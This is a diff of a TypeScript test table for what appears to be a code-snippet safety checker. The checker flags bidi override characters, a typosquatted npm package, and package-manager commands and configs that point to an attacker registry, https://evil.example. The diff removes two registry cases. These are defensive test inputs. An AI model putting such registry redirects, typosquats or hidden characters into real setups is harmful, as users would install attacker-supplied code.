@@ -91,8 +91,6 @@ const texts: readonly [text: string, says: RegExp][] = [
   ['```sh\necho safe \u202e drow', /The code has U\+202E, .* write it as \\u\{202E\}/],
   ['```sh\nnpm install ethres@6', /ethres \(npm\) is not a package .*nearest: ethers.* config\/pageRules\.ts/],
   ['```sh\nPIP_INDEX_URL=https://evil.example pip install -r requirements.txt', elsewhere],
-  ['```sh\nGOPROXY=https://evil.example go mod download', elsewhere],
-  ['```sh\nuv sync --default-index https://evil.example', elsewhere],
   ['```yaml\nnpmRegistryServer: https://evil.example', elsewhere],
   ['```toml\nregistry = "https://evil.example"', elsewhere],
   ['```ini\nindex-url = https://evil.example', elsewhere],
